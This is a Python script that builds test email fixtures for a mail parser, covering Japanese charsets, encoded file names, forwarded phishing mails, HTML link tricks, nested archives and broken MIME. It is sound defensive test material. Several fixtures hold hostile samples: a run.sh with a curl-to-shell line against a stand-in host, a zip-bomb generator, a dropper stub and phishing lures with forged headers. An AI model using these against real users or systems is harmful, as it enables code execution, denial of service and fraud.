#!/usr/bin/env python3
"""make-fixtures.py - writes the hand-made test mails of tests/test_mail.c.

The shared corpus has no sample of several charsets and tricks the parser
must handle, so they are made here, once, and the resulting .eml files are
committed; the tests never run this script.  Run it from this folder after
changing it:  python3 make-fixtures.py

Names and addresses are invented: kanto-power-test.jp is the victim
(provider) side, *-test.com / *-test.net the attacker side.
"""
import base64
import io
import os
import quopri
import subprocess
import tarfile
import tempfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))

# ---- Japanese encoders ------------------------------------------------

# CP932 puts the IBM extensions twice: at 0xFA40.. (IBM) and 0xED40..
# (NEC-selected).  ISO-2022-JP from Windows (CP50221) uses the NEC-selected
# rows 89-92, so map IBM codes to those before converting to JIS.
NEC_SELECTED = {}
for lead in (0xED, 0xEE):
    for trail in range(0x40, 0xFD):
        if trail == 0x7F:
            continue
        try:
            ch = bytes([lead, trail]).decode('cp932')
        except UnicodeDecodeError:
            continue
        NEC_SELECTED.setdefault(ch, bytes([lead, trail]))


def sjis_to_jis(b1, b2):
    j1 = (b1 - (0x70 if b1 < 0xA0 else 0xB0)) * 2
    if b2 < 0x9F:
        j1 -= 1
        j2 = b2 - (0x20 if b2 >= 0x80 else 0x1F)
    else:
        j2 = b2 - 0x7E
    return bytes([j1, j2])


def iso2022jp(text):
    """CP50221-style ISO-2022-JP: JIS X 0208 plus the NEC and IBM rows."""
    out = bytearray()
    mode = 'ascii'
    for ch in text:
        if ord(ch) < 0x80:
            if mode != 'ascii':
                out += b'\x1b(B'
                mode = 'ascii'
            out += ch.encode('ascii')
            continue
        sj = ch.encode('cp932')
        if sj[0] >= 0xFA and ch in NEC_SELECTED:
            sj = NEC_SELECTED[ch]
        if mode != 'jis':
            out += b'\x1b$B'
            mode = 'jis'
        out += sjis_to_jis(sj[0], sj[1])
    if mode != 'ascii':
        out += b'\x1b(B'
    return bytes(out)


def ew(raw, charset):
    return '=?%s?B?%s?=' % (charset, base64.b64encode(raw).decode())


def write(name, data):
    if isinstance(data, str):
        data = data.encode('utf-8')
    with open(os.path.join(HERE, name), 'wb') as f:
        f.write(data)


def b64(data):
    s = base64.b64encode(data).decode()
    return '\n'.join(s[i:i + 76] for i in range(0, len(s), 76)) + '\n'


VENDOR = '株式会社㈱①②髙橋'

# ---- charsets --------------------------------------------------------

def jis_vendor():
    subj = '【至急】' + VENDOR + 'より請求書のご案内'
    name = '髙橋 ㈱経理部'
    body = ('お世話になっております。' + VENDOR + 'です。\n'
            '下記より請求書をご確認ください。\n'
            'hxxp://invoice-portal-test[.]com/jp/view?id=8812\n'
            '① 期限: 本日中\n')
    head = ('From: %s <keiri@invoice-portal-test.com>\n'
            'To: taro@kanto-power-test.jp\n'
            'Subject: %s\n'
            'Date: Mon, 1 Apr 2024 10:00:00 +0900\n'
            'Message-ID: <jis-vendor-1@invoice-portal-test.com>\n'
            'MIME-Version: 1.0\n'
            'Content-Type: text/plain; charset=ISO-2022-JP\n'
            'Content-Transfer-Encoding: 7bit\n\n'
            % (ew(iso2022jp(name), 'ISO-2022-JP'),
               ew(iso2022jp(subj), 'ISO-2022-JP')))
    write('jis-vendor.eml', head.encode() + iso2022jp(body))


def jis_undeclared():
    # No charset anywhere, and the Subject is raw ISO-2022-JP, no
    # encoded word: old Japanese mailers did this.
    subj = iso2022jp('会議資料の送付 ①')
    body = iso2022jp('添付の資料をご確認ください。\n'
                     '詳細は hxxps://docs-share-test[.]net/s/Qa81 まで。\n')
    head = (b'From: sato@docs-share-test.net\n'
            b'To: taro@kanto-power-test.jp\n'
            b'Subject: ' + subj + b'\n'
            b'Date: Mon, 1 Apr 2024 11:00:00 +0900\n'
            b'MIME-Version: 1.0\n'
            b'Content-Type: text/plain\n\n')
    write('jis-undeclared.eml', head + body)


def jis_ms():
    # ISO-2022-JP-MS: 髙 as JIS X 0212 (ESC $ ( D), as eucJP-ms maps the
    # IBM extension 0xFBFC.
    taka = b'\x1b$(Dt{'                      # 髙, JIS X 0212 0x747B
    body = (iso2022jp('高橋') + b' ' + taka + iso2022jp('橋') + b'\n'
            b'https://jis-ms-test.com/a\n')
    head = (b'From: a@jis-ms-test.com\n'
            b'To: taro@kanto-power-test.jp\n'
            b'Subject: =?ISO-2022-JP?B?' +
            base64.b64encode(taka + iso2022jp('橋')) + b'?=\n'
            b'Content-Type: text/plain; charset=iso-2022-jp\n\n')
    write('jis-ms.eml', head + body)


def sjis_vendor():
    subj = VENDOR + ' お支払いについて'
    body = ('請求書を送付いたします。' + VENDOR + '\n'
            'ダウンロード: https://pay-sjis-test.com/d/77\n')
    # Windows writes 髙 at its IBM position 0xFBFC; Python's codec picks
    # the NEC-selected 0xEEE0.  Use Windows' bytes.
    raw_subj = subj.encode('cp932').replace(b'\xee\xe0', b'\xfb\xfc')
    assert b'\xfb\xfc' in raw_subj
    head = ('From: =?Shift_JIS?B?%s?= <billing@pay-sjis-test.com>\n'
            'To: taro@kanto-power-test.jp\n'
            'Subject: %s\n'
            'Date: Tue, 2 Apr 2024 09:00:00 +0900\n'
            'MIME-Version: 1.0\n'
            'Content-Type: text/plain; charset=shift_jis\n'
            'Content-Transfer-Encoding: 8bit\n\n'
            % (base64.b64encode('髙橋'.encode('cp932')).decode(),
               ew(raw_subj, 'Shift_JIS')))
    write('sjis-vendor.eml', head.encode() +
          body.encode('cp932').replace(b'\xee\xe0', b'\xfb\xfc'))


def eucjp():
    subj = '年度末のお知らせ'
    body = ('お知らせです。\nhttps://euc-test.net/info\n')
    head = ('From: info@euc-test.net\n'
            'To: taro@kanto-power-test.jp\n'
            'Subject: %s\n'
            'Content-Type: text/plain; charset=EUC-JP\n'
            'Content-Transfer-Encoding: 8bit\n\n'
            % ew(subj.encode('euc_jp'), 'EUC-JP'))
    write('eucjp.eml', head.encode() + body.encode('euc_jp'))


# ---- file names ------------------------------------------------------

def names():
    b = 'NAMES-BOUNDARY'
    parts = []
    # RFC 2231 with a charset.
    parts.append((
        "Content-Type: application/pdf\n"
        "Content-Disposition: attachment;\n"
        " filename*=UTF-8''%E8%AB%8B%E6%B1%82%E6%9B%B8.pdf\n"
        "Content-Transfer-Encoding: base64\n\n").encode() +
        b64(b'%PDF-1.4\n1 0 obj\n<< /URI (https://pdf-uri-test.com/x) >>\n'
            b'endobj\n').encode())
    # RFC 2231 continuations, ISO-2022-JP, split inside the escape
    # sequence on purpose.
    raw = iso2022jp('見積書①.xlsx')
    pct = ''.join('%%%02X' % c for c in raw)
    half = len(pct) // 2 // 3 * 3
    parts.append((
        "Content-Type: application/octet-stream\n"
        "Content-Disposition: attachment;\n"
        " filename*0*=iso-2022-jp'ja'%s;\n"
        " filename*1*=%s\n"
        "Content-Transfer-Encoding: base64\n\n" % (pct[:half], pct[half:])
        ).encode() + b64(b'PK\x05\x06' + b'\x00' * 18).encode())
    # RFC 2047 inside a quoted name, the Japanese way.
    parts.append((
        'Content-Type: application/msword;\n'
        ' name="%s"\n'
        'Content-Disposition: attachment;\n'
        ' filename="%s"\n'
        'Content-Transfer-Encoding: base64\n\n'
        % (ew(iso2022jp('㈱髙橋_注文書.doc'), 'ISO-2022-JP'),
           ew(iso2022jp('㈱髙橋_注文書.doc'), 'ISO-2022-JP'))).encode() +
        b64(b'not really a doc').encode())
    # Raw 8-bit Shift_JIS, no encoding at all.
    parts.append((
        b'Content-Type: application/octet-stream\n'
        b'Content-Disposition: attachment; filename="' +
        '①請求明細_髙橋.txt'.encode('cp932') + b'"\n'
        b'Content-Transfer-Encoding: base64\n\n') +
        b64(b'see https://sjis-name-test.com/p\n').encode())
    # Two adjacent base64 words, the first ending in '=' padding (GMime
    # issue 133): "請求書a" + "のご案内.zip".
    w1 = ew('請求書a'.encode('utf-8'), 'UTF-8')
    w2 = ew('のご案内.html'.encode('utf-8'), 'UTF-8')
    assert w1.endswith('=?=')
    parts.append((
        'Content-Type: text/html; name="%s %s"\n'
        'Content-Disposition: attachment; filename="%s %s"\n'
        'Content-Transfer-Encoding: base64\n\n' % (w1, w2, w1, w2)
        ).encode() + b64(
            b'<html><body><a href="https://html-att-test.com/login">'
            b'Login</a><script>window.location="https://redir-test.net/'
            b'go"</script></body></html>').encode())
    subj = '%s %s' % (w1, ew('のご案内'.encode('utf-8'), 'UTF-8'))
    out = ('From: names@names-test.com\n'
           'To: taro@kanto-power-test.jp\n'
           'Subject: %s\n'
           'MIME-Version: 1.0\n'
           'Content-Type: multipart/mixed; boundary="%s"\n\n'
           'preamble\n' % (subj, b)).encode()
    out += ('--%s\nContent-Type: text/plain; charset=utf-8\n\n'
            'see attachments\n' % b).encode()
    for p in parts:
        out += ('\n--%s\n' % b).encode() + p
    out += ('\n--%s--\n' % b).encode()
    write('names.eml', out)


# ---- forwards ----------------------------------------------------------

ATTACK_HEADERS = (
    'Return-Path: <bounce@mailer-relay-test.net>\n'
    'Received: from mx01.kanto-power-test.jp (mx01.kanto-power-test.jp '
    '[10.1.2.3])\n\tby mbox.kanto-power-test.jp (Postfix) with ESMTP id '
    'A1B2; Mon, 1 Apr 2024 10:00:05 +0900\n'
    'Authentication-Results: mx01.kanto-power-test.jp; spf=fail '
    '(sender IP is 45.76.12.34) smtp.mailfrom=mailer-relay-test.net;\n'
    ' dkim=none (message not signed) header.d=none;\n'
    ' dmarc=fail action=quarantine header.from=billing-test.com\n'
    'Received: from smtp.mailer-relay-test.net (smtp.mailer-relay-test.net '
    '[45.76.12.34])\n\tby mx01.kanto-power-test.jp (Postfix) with ESMTPS id '
    'C3D4\n\tfor <taro@kanto-power-test.jp>; Mon, 1 Apr 2024 10:00:04 +0900\n'
    'Authentication-Results: fake.mailer-relay-test.net; spf=pass; '
    'dkim=pass; dmarc=pass\n'
    'Received: from [192.168.10.5] (unknown [36.12.200.7])\n\tby '
    'smtp.mailer-relay-test.net with ESMTPSA id E5F6; Mon, 1 Apr 2024 '
    '01:00:03 +0000\n'
    'Received: from localhost (localhost [127.0.0.1])\n\tby '
    'smtp.mailer-relay-test.net with SMTP id G7H8; Mon, 1 Apr 2024 '
    '01:00:02 +0000\n'
    'From: "Billing Team" <billing@billing-test.com>\n'
    'Reply-To: collect@reply-test.net\n'
    'To: "Taro Yamada" <taro@kanto-power-test.jp>\n'
    'Cc: hanako@kanto-power-test.jp\n'
    'Subject: Invoice overdue\n'
    'Date: Mon, 1 Apr 2024 10:00:00 +0900\n'
    'Message-ID: <attack-1@billing-test.com>\n'
    'X-Mailer: PHPMailer 6.1.4\n'
    'MIME-Version: 1.0\n')


def attack_mail():
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('invoice.js', 'var u="https://payload-test.com/s.exe";\n')
    b = 'ATTACK-B'
    return (ATTACK_HEADERS +
            'Content-Type: multipart/mixed; boundary="%s"\n\n'
            '--%s\nContent-Type: text/plain; charset=utf-8\n\n'
            'Dear Taro (taro@kanto-power-test.jp),\n'
            'pay now: https://billing-test.com/pay?u=taro@kanto-power-test.jp\n'
            'or contact hanako@kanto-power-test.jp\n'
            '\n--%s\nContent-Type: application/zip; name="invoice.zip"\n'
            'Content-Disposition: attachment; filename="invoice.zip"\n'
            'Content-Transfer-Encoding: base64\n\n%s'
            '--%s--\n' % (b, b, b, b64(zbuf.getvalue()), b))


def fwd_attach():
    b = 'FWD-B'
    out = ('Received: from pc12.kanto-power-test.jp ([10.9.8.7]) by '
           'mail.kanto-power-test.jp; Mon, 1 Apr 2024 11:00:00 +0900\n'
           'From: "Taro Yamada" <taro@kanto-power-test.jp>\n'
           'To: report@hub-test.jp\n'
           'Subject: Fwd: Invoice overdue\n'
           'Date: Mon, 1 Apr 2024 11:00:00 +0900\n'
           'Message-ID: <fwd-1@kanto-power-test.jp>\n'
           'MIME-Version: 1.0\n'
           'Content-Type: multipart/mixed; boundary="%s"\n\n'
           '--%s\nContent-Type: text/plain; charset=utf-8\n\n'
           'Suspicious mail attached. Taro, kanto-power-test.jp\n'
           'https://intranet.kanto-power-test.jp/security\n'
           '\n--%s\nContent-Type: message/rfc822\n'
           'Content-Disposition: attachment; filename="Invoice overdue.eml"'
           '\n\n%s\n--%s--\n' % (b, b, b, attack_mail(), b))
    write('fwd-attach.eml', out)
    write('received.eml', attack_mail())


def fwd_inline_outlook():
    text = ('情報共有します。\n山田\n\n'
            '-----Original Message-----\n'
            '差出人: 経理部 髙橋 [mailto:keiri@invoice-fwd-test.com]\n'
            '送信日時: 2024年4月1日 10:00\n'
            '宛先: 山田 太郎 <taro@kanto-power-test.jp>\n'
            '件名: 【至急】請求書の確認\n\n'
            '山田様\n'
            '請求書をご確認ください: hxxps://invoice-fwd-test[.]com/v/1\n')
    html = ('<html><body><p>情報共有します。</p><p>山田 '
            '<a href="https://www.kanto-power-test.jp/">署名</a></p>'
            '<div>-----Original Message-----<br>'
            '差出人: 経理部 髙橋 [mailto:keiri@invoice-fwd-test.com]<br>'
            '送信日時: 2024年4月1日 10:00<br>'
            '宛先: 山田 太郎 &lt;taro@kanto-power-test.jp&gt;<br>'
            '件名: 【至急】請求書の確認<br></div><p>山田様</p>'
            '<p><a href="https://invoice-fwd-test.com/v/1">請求書</a></p>'
            '</body></html>')
    b = 'ALT-B'
    out = ('From: =?UTF-8?B?%s?= <taro@kanto-power-test.jp>\n'
           'To: report@hub-test.jp\n'
           'Subject: =?UTF-8?B?%s?=\n'
           'MIME-Version: 1.0\n'
           'Content-Type: multipart/alternative; boundary="%s"\n\n'
           '--%s\nContent-Type: text/plain; charset=utf-8\n'
           'Content-Transfer-Encoding: base64\n\n%s'
           '--%s\nContent-Type: text/html; charset=utf-8\n'
           'Content-Transfer-Encoding: base64\n\n%s'
           '--%s--\n' % (
               base64.b64encode('山田 太郎'.encode()).decode(),
               base64.b64encode('FW: 【至急】請求書の確認'.encode()).decode(),
               b, b, b64(text.encode()), b, b64(html.encode()), b))
    write('fwd-inline-outlook.eml', out)


def fwd_inline_tb():
    body = ('こちらのメールが届きました。\n\n'
            '-------- 転送メッセージ --------\n'
            '件名: \tアカウントの確認\n'
            '日付: \tMon, 1 Apr 2024 09:00:00 +0900\n'
            '差出人: \tSupport <support@account-verify-test.com>\n'
            '宛先: \ttaro@kanto-power-test.jp\n\n'
            'アカウントを確認してください。\n'
            'https://account-verify-test.com/login\n')
    out = ('From: taro@kanto-power-test.jp\n'
           'To: report@hub-test.jp\n'
           'Subject: =?ISO-2022-JP?B?%s?=\n'
           'MIME-Version: 1.0\n'
           'Content-Type: text/plain; charset=ISO-2022-JP\n\n'
           % base64.b64encode(iso2022jp('転送: アカウントの確認')).decode()
           ).encode() + iso2022jp(body)
    write('fwd-inline-tb.eml', out)


def fake_thread():
    # A phishing mail with a made-up quoted thread: not a forward, so the
    # real sender must stay the sender.
    out = ('From: ceo@fake-ceo-test.com\n'
           'To: taro@kanto-power-test.jp\n'
           'Subject: RE: wire transfer\n\n'
           'Please handle today.\n\n'
           '-----Original Message-----\n'
           'From: Taro <taro@kanto-power-test.jp>\n'
           'Sent: Monday, April 1, 2024 9:00 AM\n'
           'Subject: wire transfer\n\n'
           'Send details to https://wire-test.net/form\n')
    write('fake-thread.eml', out)


# ---- HTML ----------------------------------------------------------------

def html():
    page = ('<html><head><title>Notice</title>'
            '<meta http-equiv="refresh" content="30; URL=\'https://refresh-test.com/r\'">'
            '<style>.x{background:url(https://css-test.com/bg.png)}</style>'
            '</head><body>'
            '<!-- https://comment-test.com/hidden -->'
            '<p>Your mailbox is full. Visit hxxps://visible-test[.]net/fix '
            'now&nbsp;or&#32;call.</p>'
            '<a href="h&#116;tps://href-test.com/login?x=1&amp;y=2">Log in</a>'
            '<a href=\'mailto:help@mailto-test.net?subject=hi&cc=boss@mailto-test.net\'>mail</a>'
            '<img src="https://src-test.com/pixel.gif" width=1>'
            '<form action="https://form-test.net/post"><input></form>'
            '<script>var a = "https://script-test.com/evil.js";</script>'
            '<p>Contact taro@kanto-power-test.jp</p>'
            # The button only Outlook renders, and the one others do.
            '<!--[if mso]><v:roundrect href="https://outlook-only-test.com'
            '/pay" arcsize="12%"><center>Pay now</center></v:roundrect>'
            '<![endif]--><!--[if !mso]><!-->'
            '<a href="https://non-mso-test.com/pay">Pay</a><!--<![endif]-->'
            '<img src="//protorel-test.com/open.gif">'
            '<div style="background-image:url(\'https://inline-css-test.net'
            '/t.png\')">x</div>'
            # Style rules name things like hosts; an unclosed <style>
            # swallows the rest of the page, links included.
            '<style>table.center{width:100%} @import "https://import-test.'
            'net/s.css"; button.no{color:red}'
            '<a href="https://swallowed-test.com/x">hidden</a>'
            '</body></html>')
    out = ('From: alerts@mailbox-test.com\n'
           'To: taro@kanto-power-test.jp\n'
           'Subject: Mailbox full\n'
           'MIME-Version: 1.0\n'
           'Content-Type: text/html; charset="utf-8"\n'
           'Content-Transfer-Encoding: quoted-printable\n\n')
    qp = quopri.encodestring(page.encode()).decode()
    write('html.eml', out + qp + '\n')


def wrapped():
    """The attack mail as the victim's gateway delivered it: every link
    rewritten by Safe Links (the recipient's address in data=) or
    Proofpoint, an image through a proxy, a tracker's base64 target."""
    safe = ('https://nam12.safelinks.protection.outlook.com/?url=https%3A'
            '%2F%2Fsafelinks-target-test.com%2Flogin%3Fid%3D7&data=05%7C01'
            '%7Ctaro%40kanto-power-test.jp%7C5f0e%7C0&sdata=Zm9v%3D&'
            'reserved=0')
    pp2 = ('https://urldefense.proofpoint.com/v2/url?u=https-3A__pp2-'
           'target-test.net_invoice-3Fn-3D42&d=DwMFaQ&c=x&r=taro&m=y&s=z&e=')
    proxy = ('https://ci6.googleusercontent.com/proxy/c0nkIpyAU=s0-d-e1-ft'
             '#https://proxied-test.com/logo.png')
    track = ('https://t.mailer-test.com/Prod/link-tracker?redirectUrl=' +
             base64.b64encode(b'https%3A%2F%2Fb64-target-test.net%2Fpay')
             .decode() + '&a=1')
    page = ('<html><body><p>Your invoice is ready.</p>'
            '<a href="%s">Open</a> <a href="%s">Pay</a>'
            '<img src="%s"></body></html>' % (safe, track, proxy))
    text = ('Your invoice is ready: %s\n' % pp2)
    b = 'WRAP-B'
    out = ('From: billing@invoice-test.com\n'
           'To: taro@kanto-power-test.jp\n'
           'Subject: Invoice\n'
           'MIME-Version: 1.0\n'
           'Content-Type: multipart/alternative; boundary="%s"\n\n'
           '--%s\nContent-Type: text/plain; charset="utf-8"\n\n%s\n'
           '--%s\nContent-Type: text/html; charset="utf-8"\n'
           'Content-Transfer-Encoding: quoted-printable\n\n%s\n--%s--\n'
           % (b, b, text, b, quopri.encodestring(page.encode()).decode(), b))
    write('wrapped.eml', out)


# ---- archives -------------------------------------------------------------

def mail_with(name, data, body, subject='Documents', ctype=None):
    b = 'ARCH-B'
    ctype = ctype or 'application/octet-stream'
    return ('From: docs@archive-test.com\n'
            'To: taro@kanto-power-test.jp\n'
            'Subject: %s\n'
            'MIME-Version: 1.0\n'
            'Content-Type: multipart/mixed; boundary="%s"\n\n'
            '--%s\nContent-Type: text/plain; charset=utf-8\n\n%s\n'
            '--%s\nContent-Type: %s; name="%s"\n'
            'Content-Disposition: attachment; filename="%s"\n'
            'Content-Transfer-Encoding: base64\n\n%s'
            '--%s--\n' % (subject, b, b, body, b, ctype, name, name,
                          b64(data), b))


INNER_EML = (b'From: inner@nested-test.com\nTo: x@kanto-power-test.jp\n'
             b'Subject: inner mail\nMessage-ID: <inner-1@nested-test.com>\n'
             b'\nclick https://nested-mail-test.com/a\n')


def zips():
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('deep/readme.txt', 'C2 at c2-inner-test.net\n')
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('report.doc', b'\xd0\xcf\x11\xe0 not really ole')
        z.writestr('inner.zip', inner.getvalue())
        z.writestr('message.eml', INNER_EML)
    write('zip.eml', mail_with('documents.zip', outer.getvalue(),
                               'see the archive', ctype='application/zip'))

    # Encrypted with ZipCrypto; the password is in the body, Japanese
    # style, on the line after the label.
    with tempfile.TemporaryDirectory() as d:
        with open(os.path.join(d, 'payload.txt'), 'wb') as f:
            f.write(b'secret payload https://enc-payload-test.com/x\n')
        subprocess.run(['zip', '-q', '-P', 'Kx7-pass2024', '-j',
                        os.path.join(d, 'enc.zip'),
                        os.path.join(d, 'payload.txt')], check=True)
        with open(os.path.join(d, 'enc.zip'), 'rb') as f:
            enc = f.read()
    body = ('資料を送付します。\n解凍パスワードは別途お送りします。\n'
            'パスワード：\nKx7-pass2024\nよろしくお願いします。')
    write('zip-encrypted.eml', mail_with('資料.zip', enc, body))
    write('zip-encrypted-nopw.eml', mail_with('data.zip', enc,
                                              'no password here'))

    # A zip bomb: 64 MiB of zeros in a 64 KiB zip, ratio about 1000.
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, 'w', zipfile.ZIP_DEFLATED,
                         compresslevel=9) as z:
        z.writestr('zeros.bin', b'\0' * (64 * 1024 * 1024))
    write('zip-bomb.eml', mail_with('bomb.zip', bomb.getvalue(),
                                    'bomb', ctype='application/zip'))

    # tar.gz with one file.
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode='w:gz') as t:
        data = b'#!/bin/sh\ncurl https://tar-test.net/x | sh\n'
        ti = tarfile.TarInfo('run.sh')
        ti.size = len(data)
        ti.mtime = 1700000000
        t.addfile(ti, io.BytesIO(data))
    write('targz.eml', mail_with('tools.tar.gz', tbuf.getvalue(),
                                 'tools', ctype='application/gzip'))


# ---- broken input ----------------------------------------------------------

def broken():
    payload = bytes(range(256)) * 4
    enc = base64.b64encode(payload).decode()
    broken = enc[:100] + '!!**' + enc[100:400] + '\n~~~\n' + enc[400:-3]
    # Chunked base64: three padded blocks in a row (GMime issue 150).
    chunks = (base64.b64encode(b'MZ\x90\x00first-') .decode() +
              base64.b64encode(b'second-').decode() +
              base64.b64encode(b'third').decode())
    assert chunks.count('=') >= 2
    b = 'BRK-B'
    out = ('From: broken@broken-test.com\n'
           'To: taro@kanto-power-test.jp\n'
           'Subject: =?UTF-8?B?broken!!?= and =?x-unknown?Q?=E3=81=82?=\n'
           'MIME-Version: 1.0\n'
           'Content-Type: multipart/mixed; boundary="%s"\n\n'
           '--%s\nContent-Type: text/plain; charset=x-no-such-charset\n'
           'Content-Transfer-Encoding: quoted-printable\n\n'
           'bad =ZZ qp and https://qp-test.com/a=\n'
           'b\n'
           '--%s\nContent-Type: application/octet-stream; name="a.bin"\n'
           'Content-Transfer-Encoding: base64\n\n%s\n'
           '--%s\nContent-Type: application/octet-stream; name="chunked.exe"\n'
           'Content-Transfer-Encoding: base64\n\n%s\n'
           '--%s\nContent-Type: text/plain\n\ntruncated part without end'
           % (b, b, b, broken, b, chunks, b))
    write('broken.eml', out)


def deep():
    depth = 40
    out = ('From: deep@deep-test.com\nTo: taro@kanto-power-test.jp\n'
           'Subject: deep\nMIME-Version: 1.0\n')
    head = ''
    tail = ''
    for i in range(depth):
        head += ('Content-Type: multipart/mixed; boundary="L%d"\n\n--L%d\n'
                 % (i, i))
        tail = '\n--L%d--\n' % i + tail
    head += ('Content-Type: text/plain\n\nvery deep https://deep-test.com/x'
             '\n')
    write('deep.eml', out + head + tail)


def not_a_mail():
    write('not-a-mail.txt', b'\x00\x01binary garbage, no header block\n')


if __name__ == '__main__':
    jis_vendor()
    jis_undeclared()
    jis_ms()
    sjis_vendor()
    eucjp()
    names()
    fwd_attach()
    fwd_inline_outlook()
    fwd_inline_tb()
    fake_thread()
    html()
    wrapped()
    zips()
    broken()
    deep()
    not_a_mail()
